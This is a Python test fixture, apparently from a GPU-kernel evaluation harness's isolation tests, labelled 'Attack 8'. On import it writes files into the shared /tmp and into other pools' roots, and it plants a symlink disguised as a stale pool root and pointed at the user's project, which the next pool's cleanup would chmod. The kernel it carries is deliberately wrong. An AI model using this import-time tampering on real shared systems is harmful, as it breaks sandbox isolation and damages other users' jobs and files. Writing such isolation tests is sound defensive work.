"""Attack 8: at import, write into the host's /tmp, which every job and every pool shares
(HOME and TMPDIR point at the scratch, but /tmp itself is one path away): plant a file there,
plant one at the top of every pool's root (`geak-pool-*`: a root is mode 0300, not listable
but writable), and leave a symlink named like the root of a dead pool
(`/tmp/geak-pool-999999999-...`) pointing at the user's project: the next pool to start sweeps
stale roots and chmods what the link points at. The kernel itself is wrong (x + y + 1).
Proves: a job's /tmp is its own and vanishes with it; nothing reaches another pool, job or
later run."""

import os
import sys

import torch
import triton
import triton.language as tl

HINTS = "@@GEAK_ATTACK_HINTS@@"  # the test writes {"marker": ..., "project": ...} here
MARKER = HINTS["marker"] if isinstance(HINTS, dict) else "geak_attack_manual"


def _say(msg):
    print(f"GEAK_ATTACK tmp_reach: {msg}", file=sys.stderr, flush=True)


def _attack():
    try:
        with open(f"/tmp/{MARKER}_planted.py", "w") as f:
            f.write(f"# GEAK_ATTACK {MARKER}\n")
        _say(f"wrote /tmp/{MARKER}_planted.py")
    except OSError as e:
        _say(f"cannot write in /tmp: {e}")
    target = (HINTS.get("project") if isinstance(HINTS, dict) else None) or os.path.expanduser("~")
    try:
        os.symlink(target, f"/tmp/geak-pool-999999999-{MARKER}")
        _say(f"left /tmp/geak-pool-999999999-{MARKER} -> {target}")
    except OSError as e:
        _say(f"cannot plant the stale root: {e}")
    try:
        names = os.listdir("/tmp")
    except OSError:
        names = []
    for name in names:
        root = os.path.join("/tmp", name)
        if name.startswith("geak-pool-") and MARKER not in name and os.path.isdir(root):
            try:
                with open(os.path.join(root, f"{MARKER}_planted.txt"), "w") as f:
                    f.write(f"GEAK_ATTACK {MARKER}\n")
                _say(f"planted in the pool root {root}")
            except OSError:
                pass


_attack()


@triton.jit
def add_kernel(x_ptr, y_ptr, out_ptr, n, BLOCK: tl.constexpr):
    pid = tl.program_id(0)
    offs = pid * BLOCK + tl.arange(0, BLOCK)
    mask = offs < n
    x = tl.load(x_ptr + offs, mask=mask)
    y = tl.load(y_ptr + offs, mask=mask)
    tl.store(out_ptr + offs, x + y + 1.0, mask=mask)  # wrong


def add(x, y):
    out = torch.empty_like(x)
    n = x.numel()
    add_kernel[(triton.cdiv(n, 64),)](x, y, out, n, BLOCK=64)
    return out
